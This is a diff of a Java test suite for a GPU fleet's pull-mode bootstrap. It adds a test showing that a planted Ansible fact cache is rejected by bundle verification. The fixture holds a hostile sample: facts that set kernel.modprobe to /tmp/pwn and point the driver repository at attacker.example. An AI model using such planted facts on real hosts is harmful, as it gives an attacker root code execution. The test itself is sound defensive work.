@@ -8,8 +8,9 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.gpugen.Golden;
+import dev.gpugen.testing.ChrootTest;
 import dev.gpugen.testing.RealTools;
-import dev.gpugen.testing.RealToolsTest;
+import dev.gpugen.testing.TestRoot;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
@@ -24,10 +25,10 @@ import org.junit.jupiter.api.io.TempDir;
 
 /**
  * Pull mode, for real: the rendered user-data script of the aws-pull golden runs, unchanged, as
- * root inside a copy of the debootstrap test root (chroot, in a private mount namespace with the
- * host's /usr bound read-only, which is where ansible-playbook comes from). Stand-ins replace only
- * what a test machine has no access to: the instance metadata service ({@code curl}), S3 and EC2
- * ({@code aws}, a folder inside the root), and the playbook's GPU and internet steps (a wrapper
+ * root inside an overlay of the debootstrap test root (chroot, in a private mount namespace with
+ * the host's /usr bound read-only, which is where ansible-playbook comes from). Stand-ins replace
+ * only what a test machine has no access to: the instance metadata service ({@code curl}), S3 and
+ * EC2 ({@code aws}, a folder inside the root), and the playbook's GPU and internet steps (a wrapper
  * that adds {@code --skip-tags hardware,network,burn-in} and gpugen_live_host false, then runs the
  * real ansible-playbook). Covered: IMDSv2 token use, the bundle fetch from the versioned prefix,
  * {@code ansible-playbook -c local} of site.yml with the rendered local inventory, the per-boot
@@ -36,7 +37,7 @@ import org.junit.jupiter.api.io.TempDir;
  * root, through the real git with the example URL mapped to it. Not covered: installing Ansible and
  * the AWS CLI, a real remote, the reboot.
  */
-@RealToolsTest
+@ChrootTest
 class PullBootstrapTest {
   private static final Path STAND_INS = Golden.repo().resolve("src/test/resources/pull-stand-ins");
   private static final String BUCKET = "fleet-ckpt-example";
@@ -53,7 +54,7 @@ class PullBootstrapTest {
     RealTools.requireRoot();
     RenderedCase rendered = RenderedCase.render("aws-pull", tmp.resolve("render"));
     Path out = rendered.ansible().getParent();
-    Path root = RealTools.copyTestRoot(tmp.resolve("root"));
+    Path root = TestRoot.fresh(tmp.resolve("root"));
     String hostMapCount = Files.readString(Path.of("/proc/sys/vm/max_map_count"));
     try {
       JsonNode tfvars = json(out.resolve("terraform/terraform.tfvars.json"));
@@ -131,10 +132,12 @@ class PullBootstrapTest {
 
       // Reported once: no per-boot copy left to run again.
       assertFalse(Files.exists(root.resolve("var/lib/cloud/scripts/per-boot/gpugen-pull.sh")));
+      // Facts were cached in memory only: the run left no fact cache in the bundle.
+      assertFalse(Files.exists(root.resolve("var/lib/gpugen/pull/bundle/.cache")), log);
       // A chroot shares the host's kernel: the run must not have touched it.
       assertEquals(hostMapCount, Files.readString(Path.of("/proc/sys/vm/max_map_count")));
     } finally {
-      RealTools.deleteTestRoot(root);
+      TestRoot.delete(root);
     }
   }
 
@@ -144,7 +147,7 @@ class PullBootstrapTest {
     RealTools.requireRoot();
     RenderedCase rendered = RenderedCase.render("aws-pull", tmp.resolve("render"));
     Path out = rendered.ansible().getParent();
-    Path root = RealTools.copyTestRoot(tmp.resolve("root"));
+    Path root = TestRoot.fresh(tmp.resolve("root"));
     try {
       String prefix =
           json(out.resolve("terraform/terraform.tfvars.json")).get("pull_bundle_prefix").asText();
@@ -170,7 +173,7 @@ class PullBootstrapTest {
           calls.get(calls.size() - 1));
       assertFalse(Files.exists(root.resolve("var/lib/cloud/scripts/per-boot/gpugen-pull.sh")));
     } finally {
-      RealTools.deleteTestRoot(root);
+      TestRoot.delete(root);
     }
   }
 
@@ -185,7 +188,7 @@ class PullBootstrapTest {
     RealTools.requireRoot();
     RenderedCase rendered = RenderedCase.render("aws-pull", tmp.resolve("render"));
     Path out = rendered.ansible().getParent();
-    Path root = RealTools.copyTestRoot(tmp.resolve("root"));
+    Path root = TestRoot.fresh(tmp.resolve("root"));
     try {
       String prefix =
           json(out.resolve("terraform/terraform.tfvars.json")).get("pull_bundle_prefix").asText();
@@ -213,7 +216,7 @@ class PullBootstrapTest {
       assertFalse(
           Files.readString(root.resolve("etc/fstab")).contains("lustre"), "nothing in fstab");
     } finally {
-      RealTools.deleteTestRoot(root);
+      TestRoot.delete(root);
     }
   }
 
@@ -227,7 +230,7 @@ class PullBootstrapTest {
     RealTools.requireRoot();
     RenderedCase rendered = RenderedCase.render("aws-pull", tmp.resolve("render"));
     Path out = rendered.ansible().getParent();
-    Path root = RealTools.copyTestRoot(tmp.resolve("root"));
+    Path root = TestRoot.fresh(tmp.resolve("root"));
     try {
       String prefix =
           json(out.resolve("terraform/terraform.tfvars.json")).get("pull_bundle_prefix").asText();
@@ -258,7 +261,47 @@ class PullBootstrapTest {
                   "var/lib/gpugen/pull/rebooted-" + prefix.substring(prefix.lastIndexOf('/') + 1))),
           "no reboot for a refused bundle");
     } finally {
-      RealTools.deleteTestRoot(root);
+      TestRoot.delete(root);
+    }
+  }
+
+  /**
+   * A fact cache planted in the bundle (whoever can write the bundle prefix or push to the branch):
+   * Ansible reads .cache/facts/localhost (ansible.cfg's jsonfile cache) as the host's facts, which
+   * outrank group_vars, so its prerequisites_sysctl or driver repository would run as root. The
+   * digest covers every file, dotfiles included: the node runs nothing of it.
+   */
+  @Test
+  @Timeout(value = 5, unit = TimeUnit.MINUTES)
+  void aFactCachePlantedInTheBundleIsNeverRun() throws Exception {
+    RealTools.requireRoot();
+    RenderedCase rendered = RenderedCase.render("aws-pull", tmp.resolve("render"));
+    Path out = rendered.ansible().getParent();
+    Path root = TestRoot.fresh(tmp.resolve("root"));
+    try {
+      String prefix =
+          json(out.resolve("terraform/terraform.tfvars.json")).get("pull_bundle_prefix").asText();
+      Path bundle = root.resolve("stub-s3/" + BUCKET + "/" + prefix);
+      upload(rendered.ansible(), bundle);
+      Path planted = Files.createDirectories(bundle.resolve(".cache/facts")).resolve("localhost");
+      Files.writeString(
+          planted,
+          "{\"prerequisites_sysctl\": {\"kernel.modprobe\": \"/tmp/pwn\"},"
+              + " \"nvidia_driver_repo_base_url\": \"http://attacker.example/cuda\"}\n");
+
+      RealTools.Result r = boot(root, out.resolve("terraform/user-data-h100.sh"));
+      String log = log(root);
+      assertNotEquals(0, r.exitCode(), r.output() + log);
+      assertTrue(log.contains("the bundle is not the one this node was launched with"), log);
+      List<String> calls = Files.readAllLines(root.resolve("stub-s3/calls.log"));
+      assertTrue(calls.stream().noneMatch(c -> c.startsWith("ansible-playbook")), calls::toString);
+      JsonNode report =
+          json(root.resolve("stub-s3/" + BUCKET + "/gpugen/fleet/reports/" + CALLER + ".json"));
+      assertEquals("failed", report.get("status").asText(), report::toString);
+      assertFalse(report.get("bundle_verified").asBoolean(), report::toString);
+      assertFalse(Files.exists(root.resolve("etc/sysctl.d/90-gpugen.conf")), "nothing configured");
+    } finally {
+      TestRoot.delete(root);
     }
   }
 
@@ -280,7 +323,7 @@ class PullBootstrapTest {
     Path out = dir.resolve("out");
     dev.gpugen.Cli cli = dev.gpugen.Cli.run("render", spec.toString(), "-o", out.toString());
     assertEquals(0, cli.exit(), cli::toString);
-    Path root = RealTools.copyTestRoot(tmp.resolve("root"));
+    Path root = TestRoot.fresh(tmp.resolve("root"));
     try {
       // The repository: the render at tag v1.0.0, then a later commit the nodes must not see.
       Path repo = root.resolve("stub-git/cluster-config");
@@ -329,7 +372,7 @@ class PullBootstrapTest {
       assertEquals(tagged, report.get("git_commit").asText(), report::toString);
       assertTrue(report.get("bundle_verified").asBoolean(), report::toString);
     } finally {
-      RealTools.deleteTestRoot(root);
+      TestRoot.delete(root);
     }
   }
 
